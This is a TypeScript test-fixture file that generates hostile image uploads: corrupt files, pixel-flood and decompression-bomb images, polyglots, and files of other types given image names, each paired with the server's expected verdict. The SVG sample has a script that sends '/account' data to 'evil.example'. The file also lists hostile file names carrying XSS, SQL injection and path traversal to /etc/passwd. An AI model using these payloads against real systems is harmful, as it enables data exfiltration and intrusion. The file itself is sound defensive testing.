// The hostile corpus: broken, deceptive and costly files, each with what the server must answer
// (accepted cleanly, or refused with this problem). Every file is made here, in code, from a
// fixed seed: `npm run hostile:corpus -- --out DIR` writes them to look at.
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import {
	decompressionBombPng,
	heicContainer,
	jpegWithMetadata,
	random
} from '../../tests/fixtures/images';
import { phoneJpeg } from '../../tests/fixtures/photos';

export type Expected = 'accepted' | string;

export interface HostileFile {
	/** A name for reports (never sent to the server: uploads are raw bodies). */
	name: string;
	expect: Expected;
	make: () => Promise<Buffer>;
	/** Part of the fast variant run in CI. */
	fast: boolean;
	/** Text that must not survive into any stored file (polyglots, comments). */
	marker?: string;
}

/** A marker planted in polyglots and metadata: it must never reach a stored file. */
export const MARKER = 'PV-HOSTILE-MARKER-7f3a';

const rgb = (width: number, height: number, colour = { r: 40, g: 160, b: 90 }) =>
	sharp({ create: { width, height, channels: 3, background: colour } });

function noise(width: number, height: number, seed: number, channels = 3): Buffer {
	const next = random(seed);
	const data = Buffer.alloc(width * height * channels);
	for (let i = 0; i < data.length; i++) data[i] = Math.floor(next() * 256);
	return data;
}

/** A small photo-like JPEG with strong detail. */
const detailJpeg = (width = 640, height = 480, seed = 1) =>
	sharp(noise(width, height, seed), { raw: { width, height, channels: 3 } })
		.blur(1.2)
		.jpeg({ quality: 85 })
		.toBuffer();

function pngChunk(type: string, data: Buffer): Buffer {
	const length = Buffer.alloc(4);
	length.writeUInt32BE(data.length);
	const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
	const crc = Buffer.alloc(4);
	crc.writeUInt32BE(crc32(body) >>> 0);
	return Buffer.concat([length, body, crc]);
}

/** Inserts PNG chunks right after IHDR (signature 8 + IHDR 25 bytes). */
const withPngChunks = (png: Buffer, ...chunks: Buffer[]) =>
	Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)]);

/** The offset of a JPEG start-of-frame marker (SOF0/SOF2), where its size is written. */
function sofOffset(jpeg: Buffer): number {
	let offset = 2;
	while (offset < jpeg.length) {
		const marker = jpeg[offset + 1] ?? 0;
		if (marker === 0xc0 || marker === 0xc1 || marker === 0xc2) return offset;
		offset += 2 + jpeg.readUInt16BE(offset + 2);
	}
	throw new Error('no SOF marker');
}

/** A JPEG whose header claims width×height (the scan data is for a small image). */
async function jpegClaiming(width: number, height: number): Promise<Buffer> {
	const jpeg = Buffer.from(await rgb(64, 64).jpeg().toBuffer());
	const sof = sofOffset(jpeg);
	jpeg.writeUInt16BE(height, sof + 5);
	jpeg.writeUInt16BE(width, sof + 7);
	return jpeg;
}

/** Flips bytes in the middle of a file (after its header), deterministically. */
function corrupt(data: Buffer, seed: number, from = 0.3, count = 64): Buffer {
	const out = Buffer.from(data);
	const next = random(seed);
	const start = Math.floor(out.length * from);
	for (let i = 0; i < count; i++) {
		const at = start + Math.floor(next() * (out.length - start));
		out[at] = (out[at] ?? 0) ^ 0xff;
	}
	return out;
}

const half = (data: Buffer) => data.subarray(0, Math.floor(data.length / 2));

/** A lossless WebP of one colour: a few kilobytes that decode to width×height pixels. */
const floodWebp = (width: number, height: number) =>
	rgb(width, height).webp({ lossless: true, effort: 0 }).toBuffer();

/** An animation of `frames` distinct frames (so the encoder cannot merge them). */
function animation(frames: number, format: 'webp' | 'gif'): Promise<Buffer> {
	const side = 16;
	const frameBytes = side * side * 3;
	const strip = Buffer.alloc(frameBytes * frames);
	for (let i = 0; i < frames; i++) {
		const colour = Buffer.from([(i * 37) % 256, (i * 91) % 256, (i * 53) % 256]);
		strip.fill(colour, i * frameBytes, (i + 1) * frameBytes);
	}
	const joined = sharp(strip, {
		raw: { width: side, height: side * frames, channels: 3, pageHeight: side }
	});
	return format === 'webp'
		? joined.webp({ lossless: true, effort: 0 }).toBuffer()
		: joined.gif().toBuffer();
}

/**
 * A lossless WebP whose header claims width×height (its pixel data is for 64×64): enough to be
 * told apart by its header, which is all the server reads of it.
 */
async function webpClaiming(width: number, height: number): Promise<Buffer> {
	const webp = Buffer.from(await rgb(64, 64).webp({ lossless: true }).toBuffer());
	const vp8l = webp.indexOf('VP8L', 12, 'latin1');
	if (vp8l < 0) throw new Error('not a lossless WebP');
	// After the chunk header (8 bytes) and the 0x2f signature: 14 bits width-1, 14 bits height-1.
	const at = vp8l + 9;
	const bits = webp.readUInt32LE(at);
	const size = (width - 1) | ((height - 1) << 14);
	webp.writeUInt32LE(((bits & ~0x0fffffff) | size) >>> 0, at);
	return webp;
}

/** An APNG: a valid PNG whose acTL says `frames` frames, each an fdAT repeating the image. */
async function apng(frames: number): Promise<Buffer> {
	const width = 32;
	const height = 32;
	const rows = Buffer.alloc((1 + width * 3) * height, 0x55);
	for (let y = 0; y < height; y++) rows[y * (1 + width * 3)] = 0;
	const idat = deflateSync(rows);
	const header = Buffer.alloc(13);
	header.writeUInt32BE(width, 0);
	header.writeUInt32BE(height, 4);
	header[8] = 8;
	header[9] = 2;
	const u32 = (n: number) => {
		const b = Buffer.alloc(4);
		b.writeUInt32BE(n);
		return b;
	};
	const fctl = (sequence: number) =>
		pngChunk(
			'fcTL',
			Buffer.concat([
				u32(sequence),
				u32(width),
				u32(height),
				u32(0),
				u32(0),
				Buffer.from([0, 1, 0, 10, 0, 0])
			])
		);
	const chunks = [pngChunk('IHDR', header), pngChunk('acTL', Buffer.concat([u32(frames), u32(0)]))];
	chunks.push(fctl(0), pngChunk('IDAT', idat));
	let sequence = 1;
	for (let i = 1; i < frames; i++) {
		chunks.push(fctl(sequence++));
		chunks.push(pngChunk('fdAT', Buffer.concat([u32(sequence++), idat])));
	}
	chunks.push(pngChunk('IEND', Buffer.alloc(0)));
	return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), ...chunks]);
}

/** A PNG of width×height that is a 256×256 noise tile repeated: small file, huge master. */
function noiseTilePng(width: number, height: number): Promise<Buffer> {
	const tileSize = 256;
	const tile = noise(tileSize, tileSize, 9);
	const image = Buffer.alloc(width * height * 3);
	for (let y = 0; y < height; y++) {
		for (let x = 0; x < width; x += tileSize) {
			const n = Math.min(tileSize, width - x);
			const from = (y % tileSize) * tileSize * 3;
			tile.copy(image, (y * width + x) * 3, from, from + n * 3);
		}
	}
	return sharp(image, { raw: { width, height, channels: 3 } })
		.png({ compressionLevel: 6 })
		.toBuffer();
}

/** A JPEG padded with comment segments to exactly `bytes` (comments are stripped at ingest). */
async function jpegPaddedTo(bytes: number): Promise<Buffer> {
	const jpeg = await detailJpeg(800, 600, 5);
	const segments: Buffer[] = [];
	let size = jpeg.length;
	while (size < bytes) {
		const payload = Math.min(65533, bytes - size - 4);
		if (payload < 1) break;
		const segment = Buffer.alloc(4 + payload, 0x20);
		segment[0] = 0xff;
		segment[1] = 0xfe;
		segment.writeUInt16BE(payload + 2, 2);
		segment.write(MARKER, 4, 'latin1');
		segments.push(segment);
		size += segment.length;
	}
	const padded = Buffer.concat([jpeg.subarray(0, 2), ...segments, jpeg.subarray(2)]);
	return padded.length === bytes
		? padded
		: Buffer.concat([padded, Buffer.alloc(bytes - padded.length)]);
}

/** A huge APP1 (EXIF-looking) segment full of the marker. */
async function jpegWithHugeExif(): Promise<Buffer> {
	const jpeg = await detailJpeg(320, 240, 6);
	const payload = Buffer.alloc(65000, 0);
	Buffer.from('Exif\0\0', 'latin1').copy(payload, 0);
	for (let i = 8; i + MARKER.length < payload.length; i += 64) payload.write(MARKER, i, 'latin1');
	const segment = Buffer.concat([Buffer.from([0xff, 0xe1, 0, 0]), payload]);
	segment.writeUInt16BE(payload.length + 2, 2);
	return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

const SVG_SCRIPT = Buffer.from(
	`<svg xmlns="http://www.w3.org/2000/svg" width="400" height="300" onload="alert(1)">` +
		`<script>fetch('/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script>` +
		`<rect width="400" height="300" fill="red"/></svg>`
);

/** The files, in the order they are sent. `maxBytes` is the server's MAX_UPLOAD_MB in bytes. */
export function hostileCorpus(maxBytes: number): HostileFile[] {
	const files: HostileFile[] = [
		// --- Broken files of each format
		{
			name: 'jpeg-truncated.jpg',
			expect: 'upload_damaged',
			fast: true,
			make: async () => half(await detailJpeg())
		},
		// Corrupt entropy-coded data is only a warning to libjpeg and libwebp: the image decodes
		// (garbled), and becomes a clean, re-encoded master like any other.
		{
			name: 'jpeg-corrupt-scan.jpg',
			expect: 'accepted',
			fast: true,
			make: async () => corrupt(await detailJpeg(), 1)
		},
		{
			name: 'jpeg-header-only.jpg',
			expect: 'upload_damaged',
			fast: false,
			make: async () => {
				const jpeg = await detailJpeg();
				return jpeg.subarray(0, sofOffset(jpeg) + 40);
			}
		},
		{
			name: 'png-truncated.png',
			expect: 'upload_damaged',
			fast: true,
			make: async () =>
				half(
					await sharp(noise(300, 200, 2), { raw: { width: 300, height: 200, channels: 3 } })
						.png()
						.toBuffer()
				)
		},
		{
			name: 'png-corrupt-idat.png',
			expect: 'upload_damaged',
			fast: false,
			make: async () =>
				corrupt(
					await sharp(noise(300, 200, 3), { raw: { width: 300, height: 200, channels: 3 } })
						.png()
						.toBuffer(),
					2,
					0.2
				)
		},
		{
			name: 'webp-truncated.webp',
			expect: 'upload_damaged',
			fast: true,
			make: async () =>
				half(
					await sharp(noise(300, 200, 4), { raw: { width: 300, height: 200, channels: 3 } })
						.webp()
						.toBuffer()
				)
		},
		{
			name: 'webp-corrupt.webp',
			expect: 'accepted',
			fast: false,
			make: async () =>
				corrupt(
					await sharp(noise(300, 200, 5), { raw: { width: 300, height: 200, channels: 3 } })
						.webp({ lossless: true })
						.toBuffer(),
					3,
					0.2
				)
		},
		{
			name: 'avif-truncated.avif',
			expect: 'upload_damaged',
			fast: true,
			make: async () =>
				half(
					await sharp(noise(300, 200, 6), { raw: { width: 300, height: 200, channels: 3 } })
						.avif({ effort: 0 })
						.toBuffer()
				)
		},
		{
			name: 'avif-corrupt.avif',
			expect: 'upload_damaged',
			fast: false,
			make: async () =>
				corrupt(
					await sharp(noise(300, 200, 7), { raw: { width: 300, height: 200, channels: 3 } })
						.avif({ effort: 0 })
						.toBuffer(),
					4,
					0.5
				)
		},

		// --- Pixel floods: refused from the header (pixels), or by the memory estimate
		{
			name: 'flood-jpeg-header-65000x65000.jpg',
			expect: 'upload_too_many_pixels',
			fast: true,
			make: () => jpegClaiming(65000, 65000)
		},
		{
			name: 'flood-png-30000x30000.png',
			expect: 'upload_too_many_pixels',
			fast: true,
			make: async () => decompressionBombPng()
		},
		{
			name: 'flood-webp-16383x16383.webp',
			expect: 'upload_too_many_pixels',
			fast: true,
			make: () => webpClaiming(16383, 16383)
		},
		{
			name: 'flood-webp-10000x10000-lossless.webp',
			expect: 'upload_too_costly',
			fast: true,
			make: () => floodWebp(10000, 10000)
		},
		{
			name: 'flood-avif-10000x10000.avif',
			expect: 'upload_too_costly',
			fast: false,
			make: () => rgb(10000, 10000).avif({ quality: 30, effort: 0 }).toBuffer()
		},
		{
			name: 'flood-jpeg-progressive-444-10000x10000.jpg',
			expect: 'upload_too_costly',
			fast: false,
			make: () =>
				rgb(10000, 10000)
					.jpeg({ quality: 50, progressive: true, chromaSubsampling: '4:4:4' })
					.toBuffer()
		},
		{
			name: 'flood-png-interlaced-16-bit-rgba-10000x10000.png',
			expect: 'upload_too_costly',
			fast: false,
			make: () =>
				sharp({ create: { width: 10000, height: 10000, channels: 4, background: '#3a78' } })
					.toColourspace('rgb16')
					.png({ progressive: true })
					.toBuffer()
		},
		// Within every limit, but as costly as an accepted file gets: decoded in strips, stored
		// scaled down to MASTER_MAX_PIXELS.
		{
			name: 'flood-jpeg-baseline-10000x10000.jpg',
			expect: 'accepted',
			fast: false,
			make: () => rgb(10000, 10000).jpeg({ quality: 50 }).toBuffer()
		},
		{
			name: 'noise-tile-png-9000x7000.png',
			expect: 'accepted',
			fast: false,
			make: () => noiseTilePng(9000, 7000)
		},
		{
			name: 'noise-tile-png-3000x2000.png',
			expect: 'accepted',
			fast: true,
			make: () => noiseTilePng(3000, 2000)
		},

		// --- Animations with thousands of frames
		{
			name: 'animated-webp-3000-frames.webp',
			expect: 'upload_animated',
			fast: true,
			make: () => animation(3000, 'webp')
		},
		{
			name: 'animated-gif-3000-frames.gif',
			expect: 'upload_unsupported_format',
			fast: true,
			make: () => animation(3000, 'gif')
		},
		// libspng reads the still image of an APNG: accepted as that one picture.
		{
			name: 'animated-apng-3000-frames.png',
			expect: 'accepted',
			fast: false,
			make: () => apng(3000)
		},

		// --- Markup and scripts
		{
			name: 'svg-with-script.jpg',
			expect: 'upload_unsupported_format',
			fast: true,
			make: async () => SVG_SCRIPT
		},
		{
			name: 'svg-xml-doctype.png',
			expect: 'upload_unsupported_format',
			fast: false,
			make: async () =>
				Buffer.concat([
					Buffer.from(
						'\ufeff<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">\n'
					),
					SVG_SCRIPT
				])
		},
		{
			name: 'svgz-gzipped.webp',
			expect: 'upload_unsupported_format',
			fast: false,
			make: async () => gzipSync(SVG_SCRIPT)
		},
		{
			name: 'html-page.jpg',
			expect: 'upload_not_image',
			fast: true,
			make: async () => Buffer.from(`<!doctype html><script>alert('${MARKER}')</script>`)
		},

		// --- Polyglots: the image is re-encoded, so nothing carried along survives
		{
			name: 'polyglot-jpeg-with-html-and-zip.jpg',
			expect: 'accepted',
			fast: true,
			marker: MARKER,
			make: async () =>
				Buffer.concat([
					await detailJpeg(400, 300, 8),
					Buffer.from(`<html><script>alert('${MARKER}')</script></html>`),
					Buffer.from([0x50, 0x4b, 0x05, 0x06, ...Array(18).fill(0)])
				])
		},
		{
			name: 'polyglot-png-with-html-text-chunk.png',
			expect: 'accepted',
			fast: false,
			marker: MARKER,
			make: async () =>
				withPngChunks(
					await sharp(noise(200, 150, 10), { raw: { width: 200, height: 150, channels: 3 } })
						.png()
						.toBuffer(),
					pngChunk('tEXt', Buffer.from(`Comment\0<script>${MARKER}</script>`, 'latin1')),
					pngChunk(
						'zTXt',
						Buffer.concat([Buffer.from('Author\0\0', 'latin1'), deflateSync(Buffer.from(MARKER))])
					)
				)
		},
		{
			name: 'polyglot-gif-javascript.jpg',
			expect: 'upload_damaged',
			fast: false,
			make: async () =>
				Buffer.concat([
					(await animation(2, 'gif')).subarray(0, 6),
					Buffer.from(`=1;alert('${MARKER}');/*`),
					(await animation(2, 'gif')).subarray(6)
				])
		},
		{
			name: 'polyglot-pdf-then-jpeg.jpg',
			expect: 'upload_not_image',
			fast: false,
			make: async () =>
				Buffer.concat([
					Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n'),
					await detailJpeg(200, 150, 9)
				])
		},

		// --- Other types behind image names
		{
			name: 'text-named-photo.jpg',
			expect: 'upload_not_image',
			fast: true,
			make: async () => Buffer.from('Just some text, called photo.jpg.\n')
		},
		{
			name: 'zip-named-photo.png',
			expect: 'upload_not_image',
			fast: false,
			make: async () => Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(200, 1)])
		},
		{
			name: 'elf-named-photo.webp',
			expect: 'upload_not_image',
			fast: false,
			make: async () =>
				Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(500, 0)])
		},
		{
			name: 'mp4-named-photo.heic',
			expect: 'upload_not_image',
			fast: false,
			make: async () =>
				Buffer.concat([
					Buffer.from([0, 0, 0, 0x18]),
					Buffer.from('ftypisom\0\0\x02\0isomiso2', 'latin1'),
					Buffer.alloc(400, 0)
				])
		},
		{
			name: 'tiff-named-photo.jpg',
			expect: 'upload_unsupported_format',
			fast: true,
			make: () => rgb(64, 64).tiff().toBuffer()
		},
		{
			name: 'heic-iphone.heic',
			expect: 'upload_heic_unsupported',
			fast: true,
			make: async () => heicContainer()
		},

		// --- Sizes
		{
			name: 'zero-bytes.jpg',
			expect: 'upload_empty',
			fast: true,
			make: async () => Buffer.alloc(0)
		},
		{
			name: 'one-byte.jpg',
			expect: 'upload_not_image',
			fast: false,
			make: async () => Buffer.from([0xff])
		},
		{
			name: 'just-over-the-limit.jpg',
			expect: 'upload_too_large',
			fast: true,
			make: async () => Buffer.concat([await jpegPaddedTo(maxBytes), Buffer.from([0])])
		},
		{
			name: 'exactly-the-limit-with-comments.jpg',
			expect: 'accepted',
			fast: false,
			marker: MARKER,
			make: () => jpegPaddedTo(maxBytes)
		},

		// --- Colour, depth, metadata and shapes that must be accepted cleanly
		{
			name: 'cmyk.jpg',
			expect: 'accepted',
			fast: true,
			make: () =>
				sharp(noise(400, 300, 11), { raw: { width: 400, height: 300, channels: 3 } })
					.toColourspace('cmyk')
					.jpeg()
					.toBuffer()
		},
		{
			name: 'cmyk-progressive.jpg',
			expect: 'accepted',
			fast: false,
			make: () =>
				sharp(noise(400, 300, 12), { raw: { width: 400, height: 300, channels: 3 } })
					.toColourspace('cmyk')
					.jpeg({ progressive: true })
					.toBuffer()
		},
		{
			name: '16-bit.png',
			expect: 'accepted',
			fast: true,
			make: () =>
				sharp(noise(400, 300, 13), { raw: { width: 400, height: 300, channels: 3 } })
					.toColourspace('rgb16')
					.png()
					.toBuffer()
		},
		{
			name: '16-bit-alpha-interlaced.png',
			expect: 'accepted',
			fast: false,
			make: () =>
				sharp(noise(400, 300, 14, 4), { raw: { width: 400, height: 300, channels: 4 } })
					.toColourspace('rgb16')
					.png({ progressive: true })
					.toBuffer()
		},
		{
			name: 'grey-palette.png',
			expect: 'accepted',
			fast: false,
			make: () =>
				sharp(noise(300, 200, 15), { raw: { width: 300, height: 200, channels: 3 } })
					.png({ palette: true, colours: 16 })
					.toBuffer()
		},
		{
			name: 'avif-10-bit.avif',
			expect: 'accepted',
			fast: false,
			make: () =>
				sharp(noise(300, 200, 16), { raw: { width: 300, height: 200, channels: 3 } })
					.avif({ bitdepth: 10, effort: 0 })
					.toBuffer()
		},
		{
			name: 'gps-phone-photo.jpg',
			expect: 'accepted',
			fast: true,
			marker: 'PhoneMaker',
			make: () => phoneJpeg(1600, 1200, true)
		},
		{
			name: 'every-kind-of-metadata.jpg',
			expect: 'accepted',
			fast: false,
			marker: 'Jane Doe Survivor',
			make: () => jpegWithMetadata()
		},
		{
			name: 'huge-exif-segment.jpg',
			expect: 'accepted',
			fast: false,
			marker: MARKER,
			make: () => jpegWithHugeExif()
		},
		{
			name: 'tall-200x60000.png',
			expect: 'accepted',
			fast: false,
			make: () => rgb(200, 60000).png().toBuffer()
		},
		{
			name: 'wide-65000x1.png',
			expect: 'accepted',
			fast: false,
			make: () => rgb(65000, 1).png().toBuffer()
		},
		{
			name: 'one-pixel.png',
			expect: 'accepted',
			fast: true,
			make: () => rgb(1, 1).png().toBuffer()
		},
		{
			name: 'oriented-6000x4000-exif-6.jpg',
			expect: 'accepted',
			fast: false,
			make: async () =>
				sharp(await phoneJpeg(6000, 4000))
					.withMetadata({ orientation: 6 })
					.jpeg({ quality: 85 })
					.toBuffer()
		}
	];
	return files;
}

/**
 * File names a person's device might give a photo, hostile to a page that shows them (the
 * uploader lists each file by name) or to a server that would use them. The server never
 * receives them; the page shows them as text.
 */
export const HOSTILE_NAMES = [
	'<img src=x onerror=alert(1)>.jpg',
	'../../../../etc/passwd.jpg',
	'photo\u202egpj.exe',
	'"; DROP TABLE photos; --.png',
	'%00%2e%2e%2fsecret.jpg',
	'\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u{1f600}.webp',
	`${'a'.repeat(240)}.jpg`,
	'CON.jpg'
];
